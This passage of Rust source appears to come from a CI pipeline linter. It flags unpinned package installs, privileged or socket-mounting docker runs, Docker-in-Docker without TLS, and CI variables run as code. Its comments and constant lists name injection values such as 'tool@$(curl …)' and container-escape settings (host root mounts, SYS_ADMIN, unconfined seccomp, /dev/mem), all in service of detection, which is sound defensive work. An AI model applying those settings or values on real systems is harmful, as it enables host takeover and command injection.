        "npm" | "npx" if !what.text.contains('@') => (what.text.len(), what.text.clone()),
        _ => return None,
    };
    let variable = version_variable(cx, &tool, c.name().map(base) == Some("go"))?;
    let word = exact_range(cx, script, what.start, what.end)?;
    let range = FileRange {
        file: word.file,
        range: plumb_diagnostics::TextRange::new(
            word.range.start as usize + kept,
            word.range.end as usize,
        ),
    };
    Some(Fix {
        title: format!("pin it to `${variable}`"),
        edits: vec![Edit {
            at: range,
            replacement: format!("@${variable}"),
        }],
    })
}

/// Whether `lint.allow_installs` trusts the command.
pub(crate) fn install_allowed(cx: &JobCx, c: &Command) -> bool {
    let command = command_text(c);
    cx.config
        .lint
        .allow_installs
        .iter()
        .any(|g| glob_match(g, &command))
}

/// The command as words joined by spaces (what `allow_installs` globs match).
fn command_text(c: &Command) -> String {
    let start = c.name_index().unwrap_or(0);
    c.words[start..]
        .iter()
        .map(|w| w.text.as_str())
        .collect::<Vec<_>>()
        .join(" ")
}

/// A glob over a command, word by word: a `*` inside a word matches any run of
/// characters of that word, and a last word `*` matches any further words. A `*` never
/// spans two words, so `go install x@*` does not also trust a second package written
/// after `x@latest`.
pub fn glob_match(glob: &str, text: &str) -> bool {
    let globs: Vec<&str> = glob.split_whitespace().collect();
    let words: Vec<&str> = text.split_whitespace().collect();
    let (globs, rest_allowed) = match globs.split_last() {
        Some((&"*", head)) => (head, true),
        _ => (&globs[..], false),
    };
    let count_fits = if rest_allowed {
        words.len() >= globs.len()
    } else {
        words.len() == globs.len()
    };
    count_fits && globs.iter().zip(&words).all(|(g, w)| word_glob_match(g, w))
}

/// `*` matches any run of characters; everything else matches itself. What a `*`
/// may stand for excludes a parent folder (`..`) and the shell's expansions and
/// operators: `git+https://github.com/org/*` does not trust `…/org/../evil/x`, nor
/// `tool@*` a `tool@$(curl …)`.
fn word_glob_match(glob: &str, text: &str) -> bool {
    const NEVER_BY_STAR: &[&str] = &["..", "$", "`", "(", ")", ";", "|", "&", "<", ">"];
    if NEVER_BY_STAR
        .iter()
        .any(|d| text.contains(d) && !glob.contains(d))
    {
        return false;
    }
    let parts: Vec<&str> = glob.split('*').collect();
    if parts.len() == 1 {
        return glob == text;
    }
    let (first, last) = (parts[0], parts[parts.len() - 1]);
    if text.len() < first.len() + last.len() || !text.starts_with(first) || !text.ends_with(last) {
        return false;
    }
    let mut rest = &text[first.len()..text.len() - last.len()];
    for part in &parts[1..parts.len() - 1] {
        match rest.find(part) {
            Some(i) => rest = &rest[i + part.len()..],
            None => return false,
        }
    }
    true
}

/// A Go module version that names one release: `v1.2.3` (a pre-release or pseudo-version
/// too) or a commit; `latest`, a branch, `v1` or `v1.2` (the newest of a series) move,
/// and so does a tag that is no semantic version (`2023.1.7`: a revision, resolved when
/// the job runs, which the checksum database does not hold to one commit).
fn go_version_pinned(version: &str) -> bool {
    if version.starts_with('$') || is_commit(version) {
        return true;
    }
    version.strip_prefix('v').is_some_and(is_exact_version)
}

/// `1.4.2`, `1.4.2-rc.1`: three numeric parts, an optional pre-release.
pub(crate) fn is_exact_version(v: &str) -> bool {
    let core = v.split(['-', '+']).next().unwrap_or_default();
    let parts: Vec<&str> = core.split('.').collect();
    parts.len() == 3
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.chars().all(|c| c.is_ascii_digit()))
}

pub(crate) fn is_commit(s: &str) -> bool {
    (7..=40).contains(&s.len()) && s.chars().all(|c| c.is_ascii_hexdigit())
}

/// The package word of an unpinned install, and why it is unpinned.
fn unpinned_install(c: &Command) -> Option<(&Word, &'static str)> {
    let name = base(c.name()?);
    let args = c.args();
    let sub = args.first().map(|w| w.text.as_str());
    match (name, sub) {
        // `go run x@latest` fetches and runs like `go install`
        ("go", Some("install" | "run")) => operands(&args[1..], &[]).into_iter().find_map(|w| {
            let (_, version) = w.text.rsplit_once('@')?;
            (!go_version_pinned(version)).then_some((w, "the latest version"))
        }),
        ("pip" | "pip3" | "pipx" | "uv", Some("install")) => pip_git(&args[1..]),
        ("uv", Some("pip")) if args.get(1).is_some_and(|w| w.text == "install") => {
            pip_git(&args[2..])
        }
        ("python" | "python3", Some("-m")) if args.get(1).is_some_and(|w| w.text == "pip") => {
            args.get(2).filter(|w| w.text == "install")?;
            pip_git(&args[3..])
        }
        ("npm", _) if npm_global(args) => {
            let mut ops = operands(args, NPM_VALUE_OPTIONS).into_iter();
            ops.next()
                .filter(|sub| NPM_INSTALL.contains(&sub.text.as_str()))?;
            ops.find(|w| !npm_pinned(&w.text))
                .map(|w| (w, "the latest version from the registry"))
        }
        // `--no-install` / `--no` / `--offline`: only what is installed already runs
        ("npx", _)
            if args
                .iter()
                .any(|a| matches!(a.text.as_str(), "--no-install" | "--no" | "--offline")) =>
        {
            None
        }
        // `npx -p pkg@1.2.3 bin` installs the packages named, and runs `bin` of them
        ("npx", _) => {
            let packages = option_values(args, &["-p", "--package"]);
            let installed = match packages.is_empty() {
                true => operands(args, &["-p", "--package"])
                    .into_iter()
                    .take(1)
                    .collect(),
                false => packages,
            };
            (installed.into_iter())
                .find(|w| !npm_pinned(w.text.strip_prefix("--package=").unwrap_or(&w.text)))
                .map(|w| (w, "the latest version from the registry"))
        }
        ("cargo", Some("install")) => {
            let pinned = args.iter().any(|a| {
                matches!(
                    a.text.as_str(),
                    "--version" | "--vers" | "--path" | "--rev" | "--tag"
                ) || a.text.starts_with("--version=")
                    || a.text.starts_with("--rev=")
                    || a.text.starts_with("--tag=")
            });
            let ops = operands(
                &args[1..],
                &[
                    "--version",
                    "--vers",
                    "--git",
                    "--branch",
                    "--root",
                    "--target",
                    "--features",
                    "--registry",
                    "--index",
                    "-j",
                    "--jobs",
                    "--profile",
                    "--bin",
                    "--example",
                ],
            );
            if pinned {
                return None;
            }
            // `--git URL` without `--rev`/`--tag`: the default branch as it is today
            let git = args
                .iter()
                .enumerate()
                .find_map(|(i, a)| match a.text.as_str() {
                    "--git" => args.get(i + 1),
                    t if t.starts_with("--git=") => Some(a),
                    _ => None,
                });
            if let Some(url) = git {
                return Some((url, "whatever the repository's branch holds today"));
            }
            let krate = ops.into_iter().find(|w| !w.text.contains('@'))?;
            Some((krate, "the latest version from crates.io"))
        }
        ("gem", Some("install")) => {
            let pinned = args.iter().any(|a| {
                a.text == "-v" || a.text == "--version" || a.text.starts_with("--version=")
            });
            let ops = operands(
                &args[1..],
                &[
                    "-v",
                    "--version",
                    "-i",
                    "--install-dir",
                    "-n",
                    "--bindir",
                    "--source",
                ],
            );
            let g = ops.into_iter().find(|w| !w.text.contains(':'))?;
            (!pinned).then_some((g, "the latest version from the registry"))
        }
        _ => None,
    }
}

fn pip_git(args: &[Word]) -> Option<(&Word, &'static str)> {
    args.iter().find_map(|w| {
        let spec = w.text.split_once("git+").map(|(_, rest)| rest)?;
        let url = spec.split('#').next().unwrap_or(spec);
        let pinned = url
            .rsplit_once('@')
            .is_some_and(|(head, r)| head.contains('/') && is_commit(r));
        (!pinned).then_some((w, "whatever the repository's branch holds today"))
    })
}

/// `npx tool@$V` where the job's `env` binds `V` to a version that moves (`latest`).
fn npm_moving_variable<'c>(cx: &JobCx, c: &'c Command) -> Option<(&'c Word, &'static str)> {
    let name = base(c.name()?);
    if !(name == "npx" || name == "npm" && npm_global(c.args())) {
        return None;
    }
    c.args()
        .iter()
        .find(|w| {
            let body = w.text.strip_prefix('@').unwrap_or(&w.text);
            let Some((package, version)) = body.rsplit_once("@$") else {
                return false;
            };
            let variable = version.trim_start_matches('{').trim_end_matches('}');
            let bound = cx.job.env.iter().find(|b| b.name == variable);
            let value = bound.and_then(|b| b.value.as_str());
            value.is_some_and(|v| !v.contains('$') && !npm_pinned(&format!("{package}@{v}")))
        })
        .map(|w| (w, "a version that moves (its variable's value)"))
}

/// npm's `install` and its aliases (`npm help install`).
const NPM_INSTALL: &[&str] = &[
    "install", "i", "add", "in", "ins", "inst", "insta", "instal", "isnt", "isnta", "isntal",
    "isntall",
];
/// npm options that take the next word as their value.
const NPM_VALUE_OPTIONS: &[&str] = &[
    "--prefix",
    "--registry",
    "--location",
    "--loglevel",
    "--cache",
    "--userconfig",
    "--globalconfig",
    "--workspace",
    "-w",
    "--omit",
    "--include",
    "--tag",
    "--otp",
    "--scope",
];

/// A global install, the option before or after the command: `-g`, `--global`,
/// `--location=global`, `--location global`.
fn npm_global(args: &[Word]) -> bool {
    args.iter().enumerate().any(|(i, a)| {
        matches!(
            a.text.as_str(),
            "-g" | "--global" | "--global=true" | "--location=global"
        ) || a.text == "--location" && args.get(i + 1).is_some_and(|v| v.text == "global")
    })
}

/// `name@1.2.3`, `@scope/name@1.2.3`: an exact version (not `latest`, `next`, `^1`).
fn npm_pinned(spec: &str) -> bool {
    let body = spec.strip_prefix('@').unwrap_or(spec);
    let Some((_, version)) = body.rsplit_once('@') else {
        return false;
    };
    // a version from a variable is decided elsewhere (PL6003's fix writes one)
    version.starts_with('$')
        || version.starts_with(|c: char| c.is_ascii_digit())
            && version
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || ".-+".contains(c))
}

/// PL6005: `docker run` (or `podman run`, `docker create`) with `--privileged`, the
/// Docker socket mounted, or the host's network or PID namespace.
pub fn privileged_containers(cx: &JobCx) -> Vec<ScriptHit> {
    let mut hits = Vec::new();
    // `DOCKER_HOST: tcp://docker:2376`: the daemon is the job's Docker-in-Docker
    // service's, whose network, PID namespace and socket are its container's, not the
    // host's
    let dind = dind_hosts(cx);
    let env_host = (cx.job.env.iter())
        .find(|b| b.name == "DOCKER_HOST")
        .and_then(|b| b.value.as_str());
    for script in cx.scripts() {
        for c in &script.commands {
            let Some(name) = c.name().map(base) else {
                continue;
            };
            let args = c.args();
            // `docker run`, `docker container run`, `docker -H host run`
            let mut first = 0;
            while let Some(a) = args.get(first).filter(|a| a.text.starts_with('-')) {
                first += 1 + usize::from(DOCKER_GLOBAL_VALUES.contains(&a.text.as_str()));
            }
            let sub = match args.get(first).map(|a| a.text.as_str()) {
                Some("container") => first + 2,
                _ => first + 1,
            };
            let verb = args.get(sub - 1).map(|a| a.text.as_str());
            let runs = matches!(name, "docker" | "podman" | "nerdctl")
                && matches!(verb, Some("run" | "create"));
            let (true, Some(verb)) = (runs, verb) else {
                continue;
            };
            // `docker -H tcp://docker:2375 run …`, `DOCKER_HOST=… docker run`
            let daemon = daemon_of(c, &args[..first], env_host);
            let in_service = name == "docker" && daemon.is_some_and(|h| at_service(h, &dind));
            let args = container_options(&args[sub..]);
            for (i, a) in args.iter().enumerate() {
                let next = args.get(i + 1).map_or("", |w| w.text.as_str());
                let Some(why) = privilege(&a.text, next) else {
                    continue;
                };
                let service_own = matches!(
                    why,
                    "the host's network" | "the Docker socket mounted" | "the host's PID namespace"
                );
                if in_service && service_own {
                    continue;
                }
                hits.push(ScriptHit {
                    at: at(cx, script, a),
                    message: format!(
                        "`{name} {verb}` with {why}: the container can take over the runner's host"
                    ),
                    label: why.to_string(),
                    related: None,
                    fixes: Vec::new(),
                });
            }
        }
    }
    hits
}

/// The host names of the job's Docker-in-Docker services (`docker:27-dind`): their
/// aliases, else `docker`, GitLab's name for that image.
fn dind_hosts(cx: &JobCx) -> Vec<String> {
    (cx.job.service_names().into_iter())
        .filter(|(image, _)| image.contains("dind"))
        .flat_map(|(_, alias)| match alias {
            // `alias: docker,dind` names two
            Some(names) => (names.split(','))
                .map(|a| a.trim().to_ascii_lowercase())
                .collect(),
            None => vec!["docker".to_string()],
        })
        .collect()
}

/// The daemon a `docker` command talks to: its `-H`/`--host` (a `--context` is
/// another, unknown here), else a `DOCKER_HOST=` before it, else the job's.
fn daemon_of<'a>(cmd: &'a Command, global: &'a [Word], job: Option<&'a str>) -> Option<&'a str> {
    for (i, a) in global.iter().enumerate() {
        match a.text.as_str() {
            "-H" | "--host" => return global.get(i + 1).map(|w| w.text.as_str()),
            "-c" | "--context" => return None,
            t if t.starts_with("--context=") => return None,
            t => {
                if let Some(host) = t.strip_prefix("--host=") {
                    return Some(host);
                }
            }
        }
    }
    match (cmd.assignments.iter()).find(|(n, _)| n == "DOCKER_HOST") {
        Some((_, w)) => Some(w.text.strip_prefix("DOCKER_HOST=").unwrap_or(&w.text)),
        None => job,
    }
}

/// Whether a Docker daemon address is one of the job's Docker-in-Docker services
/// (`tcp://docker:2376`), not the runner's own socket or another machine.
fn at_service(address: &str, dind: &[String]) -> bool {
    let Some(rest) = address.strip_prefix("tcp://") else {
        return false;
    };
    let host = rest
        .split([':', '/'])
        .next()
        .unwrap_or("")
        .to_ascii_lowercase();
    dind.contains(&host)
}

/// Docker's options before its command that take a value (`docker -H tcp://… run`).
const DOCKER_GLOBAL_VALUES: &[&str] = &[
    "-H",
    "--host",
    "-c",
    "--context",
    "--config",
    "-l",
    "--log-level",
    "--tlscacert",
    "--tlscert",
    "--tlskey",
    // podman's and nerdctl's
    "--storage-driver",
    "--root",
    "--runroot",
    "--cgroup-manager",
    "--url",
    "--connection",
    "-n",
    "--namespace",
    "--address",
    "-a",
];

/// The options of `docker run` (the words before the image): what follows the image
/// is the container's command and its arguments, not Docker's.
fn container_options(args: &[Word]) -> &[Word] {
    // long options without a value; every other long option takes one
    const FLAGS: &[&str] = &[
        "--rm",
        "--privileged",
        "--init",
        "--read-only",
        "--sig-proxy",
        "--no-healthcheck",
        "--oom-kill-disable",
        "--disable-content-trust",
        "--detach",
        "--interactive",
        "--tty",
        "--publish-all",
        "--quiet",
        "--help",
        // podman's
        "--replace",
        "--rmi",
        "--no-hosts",
        "--read-only-tmpfs",
    ];
    let mut i = 0;
    while let Some(w) = args.get(i) {
        let t = w.text.as_str();
        let takes_value = if t == "--" {
            return &args[..i];
        } else if let Some(long) = t.strip_prefix("--") {
            !long.contains('=') && !FLAGS.contains(&t)
        } else if let Some(cluster) = t.strip_prefix('-').filter(|s| !s.is_empty()) {
            // `-v x`, `-dp 80:80`, `-ite A=1`: the first letter that takes a value takes
            // the rest of the word, or the next word when it is the last
            cluster
                .find(|c| "acehlmpuvw".contains(c))
                .is_some_and(|k| k + 1 == cluster.len())
        } else {
            return &args[..i];
        };
        i += if takes_value { 2 } else { 1 };
    }
    args
}

fn privilege(flag: &str, next: &str) -> Option<&'static str> {
    // `-itv x` is `-v x`, `-itv/var/run/docker.sock:…` is `-v/var/run/docker.sock:…`
    let short;
    let flag = match flag
        .strip_prefix('-')
        .filter(|c| c.len() > 1 && !c.starts_with('-'))
    {
        Some(cluster) => match cluster.find('v') {
            Some(k) if cluster[..k].chars().all(|c| !"acehlmpuw".contains(c)) => {
                short = format!("-{}", &cluster[k..]);
                short.as_str()
            }
            _ => flag,
        },
        None => flag,
    };
    if flag == "--use-api-socket" {
        return Some("the Docker socket mounted");
    }
    let privileged = flag
        .strip_prefix("--privileged=")
        .map(str::to_ascii_lowercase);
    if privileged.is_some_and(|v| matches!(v.as_str(), "true" | "1" | "t")) {
        return Some("`--privileged`");
    }
    let value = |long: &str| {
        flag.strip_prefix(long)
            .and_then(|r| r.strip_prefix('='))
            .map(str::to_string)
            .or_else(|| (flag == long).then(|| next.to_string()))
    };
    if flag == "--privileged" || flag == "--privileged=true" {
        return Some("`--privileged`");
    }
    for mount in ["-v", "--volume", "--mount"] {
        if value(mount)
            .is_some_and(|v| v.contains("/var/run/docker.sock") || v.contains("/run/docker.sock"))
        {
            return Some("the Docker socket mounted");
        }
    }
    if flag
        .strip_prefix("-v")
        .is_some_and(|v| v.starts_with('/') && v.contains("/run/docker.sock"))
    {
        return Some("the Docker socket mounted");
    }
    if value("--network")
        .or_else(|| value("--net"))
        .is_some_and(|v| v == "host")
    {
        return Some("the host's network");
    }
    if value("--pid").is_some_and(|v| v == "host") {
        return Some("the host's PID namespace");
    }
    host_powers(flag, &value)
}

/// The other ways `docker run` gives a container the host: its root, a system folder
/// or a container runtime's socket mounted, capabilities that lift the container's
/// limits, its confinement turned off, a disk or the memory of the host as a device.
fn host_powers(flag: &str, value: &dyn Fn(&str) -> Option<String>) -> Option<&'static str> {
    let volume = (value("-v").or_else(|| value("--volume"))).or_else(|| {
        (flag.strip_prefix("-v"))
            .filter(|v| v.starts_with('/'))
            .map(str::to_string)
    });
    let bind = value("--mount").and_then(|m| {
        (m.split(','))
            .find_map(|kv| {
                kv.strip_prefix("source=")
                    .or_else(|| kv.strip_prefix("src="))
            })
            .map(str::to_string)
    });
    let source = (volume.as_deref())
        .map(|v| v.split(':').next().unwrap_or(v).to_string())
        .or(bind)
        .filter(|s| !s.is_empty());
    if let Some(source) = source {
        let folder = match source.trim_end_matches('/') {
            "" => "/",
            trimmed => trimmed,
        };
        if HOST_FOLDERS.contains(&folder) {
            return Some("a folder of the host's system mounted");
        }
        if RUNTIME_SOCKETS.iter().any(|s| folder.ends_with(s)) {
            return Some("a container runtime's socket mounted");
        }
    }
    let capabilities = value("--cap-add").map(|c| c.to_ascii_uppercase());
    let powerful = |c: &str| HOST_CAPABILITIES.contains(&c.trim().trim_start_matches("CAP_"));
    if capabilities.is_some_and(|c| c.split(',').any(powerful)) {
        return Some("a capability that reaches the host");
    }
    let confinement = value("--security-opt").map(|o| o.replace(':', "="));
    if confinement.is_some_and(|o| UNCONFINED.contains(&o.as_str())) {
        return Some("the container's confinement turned off");
    }
    if value("--device").is_some_and(|d| host_device(&d)) {
        return Some("a disk or the memory of the host");
    }
    None
}

/// Folders of the host whose mount gives a container the host: its root, its
/// configuration and its kernel's views, and the folders that hold the runtime's socket.
const HOST_FOLDERS: &[&str] = &[
    "/",
    "/etc",
    "/root",
    "/proc",
    "/sys",
    "/dev",
    "/boot",
    "/var/lib/docker",
    "/run",
    "/var/run",
];

/// The sockets of container runtimes other than Docker's (whose is reported as such).
const RUNTIME_SOCKETS: &[&str] = &["containerd.sock", "podman.sock", "crio.sock"];

/// Capabilities that lift a container's limits over the host (`SYS_PTRACE` reaches only
/// the container's own processes, without `--pid host`).
const HOST_CAPABILITIES: &[&str] = &[
    "ALL",
    "SYS_ADMIN",
    "SYS_MODULE",
    "DAC_READ_SEARCH",
    "SYS_RAWIO",
];

/// `--security-opt` values that turn the container's confinement off.
const UNCONFINED: &[&str] = &[
    "seccomp=unconfined",
    "apparmor=unconfined",
    "label=disable",
    "systempaths=unconfined",
];

/// Whether a `--device` is a disk or the memory of the host (`/dev/sda`, `/dev/nvme0n1`,
/// `/dev/mem`), not one a job uses as it is meant to (`/dev/fuse`, `/dev/kvm`, a GPU).
fn host_device(device: &str) -> bool {
    let path = device.split(':').next().unwrap_or(device);
    let Some(name) = path.strip_prefix("/dev/") else {
        return false;
    };
    ["mem", "kmem", "port"].contains(&name)
        || [
            "sd", "nvme", "vd", "xvd", "hd", "mmcblk", "dm-", "mapper/", "disk/",
        ]
        .iter()
        .any(|p| name.starts_with(p))
}

/// PL6005 for services: a Docker-in-Docker service with TLS turned off
/// (`DOCKER_TLS_CERTDIR = ""`): the daemon listens without authentication on the
/// job's network, and any container there can drive it.
pub fn insecure_dind(cx: &JobCx) -> Option<ScriptHit> {
    let service = cx
        .images()
        .iter()
        .find(|i| i.role == "service" && i.text.contains("dind"))?;
    // `DOCKER_TLS_CERTDIR: ""`, or a client pointed at Docker's port without TLS
    // (`DOCKER_HOST: tcp://docker:2375`: the daemon answers there unauthenticated)
    let off = |name: &str, v: &plumb_semantics::Value| {
        let plumb_semantics::ValueKind::Str(text) = &v.kind else {
            return false;
        };
        match name {
            "DOCKER_TLS_CERTDIR" => text.is_empty(),
            "DOCKER_HOST" => is_plain_docker_port(text),
            _ => false,
        }
    };
    // in the job's `env` (services get the job's variables) or the service's own
    let tls_off = cx
        .job
        .env
        .iter()
        .find(|b| off(&b.name, &b.value))
        .map(|b| b.value.origin)
        .or_else(|| {
            let service_env = cx.job.service_env();
            service_env
                .iter()
                .find(|(_, e)| off(&e.key, &e.value))
                .map(|(_, e)| e.value.origin)
        })?;
    let label = match cx.sources.literal(tls_off) {
        Some(text) if text.contains("2375") => "Docker's port without TLS",
        _ => "`\"\"` turns TLS off",
    };
    Some(ScriptHit {
        at: tls_off,
        message: format!("the Docker-in-Docker service `{}` runs with TLS off: its daemon takes commands from anyone on the job's network", service.text),
        label: label.to_string(),
        related: Some((service.literal, "the Docker-in-Docker service".to_string())),
        fixes: Vec::new(),
    })
}

/// `tcp://docker:2375` (with or without a trailing `/`): Docker's port without TLS.
fn is_plain_docker_port(host: &str) -> bool {
    host.strip_prefix("tcp://")
        .map(|rest| rest.trim_end_matches('/'))
        .and_then(|rest| rest.rsplit_once(':'))
        .is_some_and(|(_, port)| port == "2375")
}

/// The script text `start..end` as a range of the source, when it is written there
/// as it reads (the locator falls back to the whole literal when it is not).
fn exact_range(cx: &JobCx, script: &ScannedScript, start: usize, end: usize) -> Option<FileRange> {
    let locate = Locator::new(cx.sources, script.text, script.origin);
    exact_range_in(&locate, script, start, end)
}

/// [`exact_range`] with the script's locator.
fn exact_range_in(
    locate: &Locator,
    script: &ScannedScript,
    start: usize,
    end: usize,
) -> Option<FileRange> {
    let range = locate.range(start, end);
    (start < end && range != script.origin).then_some(range)
}

/// Puts the expansion `start..end` of a script between double quotes.
fn quote_fix(cx: &JobCx, script: &ScannedScript, start: usize, end: usize) -> Option<Fix> {
    let mut range = exact_range(cx, script, start, end)?;
    // `\${X}` (or `\$X`) in a block string, found by search: the quote goes before the `\`
    let literal = cx.sources.literal(script.origin)?;
    let offset = (range.range.start - script.origin.range.start) as usize;
    if literal
        .get(..offset)
        .is_some_and(|before| before.ends_with('\\'))
    {
        range.range.start -= 1;
    }
    // `\"` reads as `"` in both `"…"` strings and `"""…"""` blocks (where a bare `"`
    // before the closing `"""` would end the block early)
    let quote = "\\\"";
    let point = |offset: u32| FileRange {
        file: range.file,
        range: plumb_diagnostics::TextRange::new(offset as usize, offset as usize),
    };
    Some(Fix {
        title: "quote the expansion".to_string(),
        edits: vec![
            Edit {
                at: point(range.range.start),
                replacement: quote.to_string(),
            },
            Edit {
                at: point(range.range.end),
                replacement: quote.to_string(),
            },
        ],
    })
}

pub use plumb_semantics::OUTSIDER_VARIABLES;

/// The outsider variables that hold free text (spaces, `*`): split and globbed when
/// unquoted. Branch names cannot hold whitespace or glob characters (git refuses them),
/// so unquoted they are harmless; as code (`eval`, `sh -c`) every one is dangerous, as
/// a branch name may hold `;`, `$(`, `|` and backquotes.
const FREE_TEXT: &[&str] = &[
    "CI_MERGE_REQUEST_TITLE",
    "CI_MERGE_REQUEST_DESCRIPTION",
    "CI_COMMIT_MESSAGE",
    "CI_COMMIT_TITLE",
    "CI_COMMIT_DESCRIPTION",
    "CI_COMMIT_AUTHOR",
    "CI_COMMIT_TAG_MESSAGE",
];

/// How deep shell code inside shell code (`sh -c '…'` in a quoted here-doc) is read.
const MAX_NESTED_SHELLS: usize = 3;

/// Where a variable's outsider-controlled text came from: the outsider variable, and
/// where it was copied into this one (`None` for an outsider variable itself).
#[derive(Clone)]
struct Taint {
    outsider: String,
    copied_at: Option<FileRange>,
    /// Whether a shell the script starts gets it (an outsider variable, the job's
    /// `env`, an `export`, a `NAME=value cmd` for `cmd`).
    exported: bool,
}

/// The variables of a job that hold outsider text: the outsider variables, and those
/// the job's `env` or its script assigns from them (`M="$CI_COMMIT_MESSAGE"`), followed
/// through further copies; a later assignment of other text (or `unset`, `read`)
/// clears the taint.
#[derive(Clone, Default)]
struct Tainted {
    copies: std::collections::HashMap<String, Taint>,
    /// Outsider variables whose value the job's condition fixes to plain text
    /// (`branch == "main"`: `CI_COMMIT_BRANCH` is `main`).
    fixed: Vec<&'static str>,
}

impl Tainted {
    fn of(&self, name: &str) -> Option<Taint> {
        if OUTSIDER_VARIABLES.contains(&name) && !self.fixed.contains(&name) {
            return Some(Taint {
                outsider: name.to_string(),
                copied_at: None,
                exported: true,
            });
        }
        self.copies.get(name).cloned()
    }
    /// The first outsider text among `vars`.
    fn among<'v>(&self, vars: impl IntoIterator<Item = &'v VarRef>) -> Option<(&'v VarRef, Taint)> {
        vars.into_iter()
            .find_map(|v| self.of(&v.name).map(|t| (v, t)))
    }
    /// `name` now holds what `from` holds (written at `at`), or, with `from` `None`,
    /// text no outsider chose.
    fn assign(
        &mut self,
        name: &str,
        from: Option<Taint>,
        at: impl FnOnce() -> FileRange,
        exported: bool,
    ) {
        match from {
            Some(t) => {
                let copied_at = t.copied_at.or_else(|| Some(at()));
                let exported = exported || self.copies.get(name).is_some_and(|old| old.exported);
                let taint = Taint {
                    outsider: t.outsider,
                    copied_at,
                    exported,
                };
                self.copies.insert(name.to_string(), taint);
            }
            None => {
                self.copies.remove(name);
            }
        }
    }
    /// What a shell started from here gets: the exported ones.
    fn exported(&self) -> Tainted {
        let copies = self.copies.iter().filter(|(_, t)| t.exported);
        Tainted {
            copies: copies.map(|(k, t)| (k.clone(), t.clone())).collect(),
            fixed: self.fixed.clone(),
        }
    }
}

/// PL6001: outsider-controlled text (an outsider variable, or a variable copied from
/// one) run as code: in the string `eval` or `trap` runs, the command of `sh -c` or
/// `su -c` (and the shell code inside it, or in a quoted here-doc, read again), piped
/// or fed as a here-doc into a shell; and free text expanded unquoted in a command's
/// arguments (where the shell splits and globs it).
pub fn untrusted_input(cx: &JobCx) -> Vec<ScriptHit> {
    let mut hits = Vec::new();
    let mut from_env = Tainted {
        fixed: fixed_by_condition(cx),
        ..Tainted::default()
    };
    for b in &cx.job.env {
        if let plumb_semantics::ValueKind::Str(text) = &b.value.kind {
            let from = from_env.among(expansions(text).iter()).map(|(_, t)| t);
            from_env.assign(&b.name, from, || b.value.origin, true);
        }
    }
    let mut tainted = from_env.clone();
    let fresh_shell_at = cx.job.run_script_count();
    for (n, script) in cx.scripts().iter().enumerate() {
        if n == fresh_shell_at {
            // `after_run` runs in a new shell: only the job's variables reach it
            tainted = from_env.clone();
        }
        let locate = Locator::new(cx.sources, script.text, script.origin);
        let mut previous: Option<&Command> = None;
        for c in &script.commands {
            untrusted_in_command(cx, script, c, previous, &tainted, 0, &mut hits);
            let exported = c.name() == Some("export");
            for (name, word) in persistent_assignments(c) {
                let from = tainted.among(word.vars.iter()).map(|(_, t)| t);
                tainted.assign(name, from, || locate.range(word.start, word.end), exported);
            }
            // `unset M`, `read M`: M no longer holds what an outsider wrote
            if matches!(c.name(), Some("unset" | "read")) {
                for w in c.args().iter().filter(|w| crate::shell::is_name(&w.text)) {
                    tainted.assign(&w.text, None, || locate.range(w.start, w.end), false);
                }
            }
            previous = Some(c);
        }
    }
    hits
}

/// The outsider variables the job's condition (with its pipeline's `on`) fixes to a
/// plain name: where it runs only for `branch == "main"` (or the default branch, a
/// project setting), the branch (and the ref) is `main`, which no one chooses; where
/// only for tags matching `^v\d+\.\d+\.\d+$`, the tag holds no shell syntax.
fn fixed_by_condition(cx: &JobCx) -> Vec<&'static str> {
    use plumb_semantics::Cond;
    let conds = [&cx.job.when, cx.pipeline_on.0];
    let holds = |test: &dyn Fn(&Cond) -> bool| conds.iter().any(|c| fixes(c, test));
    let branch = |c: &Cond| is_branch_fixed(c);
    let tag = |c: &Cond| is_tag_fixed(c);
    let reference = |c: &Cond| is_branch_fixed(c) || is_tag_fixed(c);
    let mut fixed = Vec::new();
    if holds(&branch) {
        fixed.push("CI_COMMIT_BRANCH");
    }
    if holds(&tag) {
        fixed.push("CI_COMMIT_TAG");
    }
    if holds(&reference) {
        fixed.push("CI_COMMIT_REF_NAME");
    }
    fixed
}

/// Whether every way `c` holds passes `test` on one of its conjuncts.
fn fixes(c: &plumb_semantics::Cond, test: &dyn Fn(&plumb_semantics::Cond) -> bool) -> bool {
    use plumb_semantics::Cond;
    match c {
        Cond::And(a, b) => fixes(a, test) || fixes(b, test),
        Cond::Or(a, b) => fixes(a, test) && fixes(b, test),
        other => test(other),
    }
}

fn is_branch_fixed(c: &plumb_semantics::Cond) -> bool {
    use plumb_semantics::{BranchTest, Cond};
    let fixed = |t: &BranchTest| match t {
        BranchTest::Eq(name) => is_plain_name(name),
        BranchTest::EqVar(var) => var == "CI_DEFAULT_BRANCH",
        BranchTest::Matches(re) => admits_only_plain_names(re),
        _ => false,
    };
    match c {
        Cond::Branch(t) => fixed(t),
        Cond::Var(var, t) if var == "CI_COMMIT_BRANCH" => fixed(t),
        _ => false,
    }
}

fn is_tag_fixed(c: &plumb_semantics::Cond) -> bool {
    use plumb_semantics::{BranchTest, Cond};
    match c {
        Cond::Var(var, BranchTest::Eq(name)) if var == "CI_COMMIT_TAG" => is_plain_name(name),
        Cond::Var(var, BranchTest::Matches(re)) if var == "CI_COMMIT_TAG" => {
            admits_only_plain_names(re)
        }
        _ => false,
    }
}

fn is_plain_name(name: &str) -> bool {
    !name.is_empty() && (name.chars()).all(|ch| ch.is_ascii_alphanumeric() || "._/-".contains(ch))
}

/// Whether a regular expression matches only plain names: anchored at both ends (an
/// alternative outside a group, `^main|master$`, is anchored at one end only), and made
/// of letters, digits, `.` `_` `/` `-` written out (`\.`), `\d`, `\w`, classes of those
/// (a range within one of `a-z`, `A-Z`, `0-9`: `[0-z]` spans `;`), groups,
/// alternatives and repetitions. `.` and `[^…]` match `;`, so they do not.
fn admits_only_plain_names(re: &str) -> bool {
    let Some(body) = re.strip_prefix('^').and_then(|r| r.strip_suffix('$')) else {
        return false;
    };
    if body.ends_with('\\') {
        return false; // `\$`: a dollar sign, not the end
    }
    let chars: Vec<char> = body.chars().collect();
    let mut depth = 0usize;
    let mut i = 0;
    while let Some(&ch) = chars.get(i) {
        i += 1;
        match ch {
            '\\' => match chars.get(i) {
                Some('d' | 'w' | '.' | '-' | '/' | '_') => i += 1,
                _ => return false,
            },
            '[' => match plain_class(&chars[i..]) {
                Some(len) => i += len,
                None => return false,
            },
            '(' => depth += 1,
            ')' if depth > 0 => depth -= 1,
            '|' if depth > 0 => {}
            '+' | '*' | '?' | '{' | '}' | ',' => {}
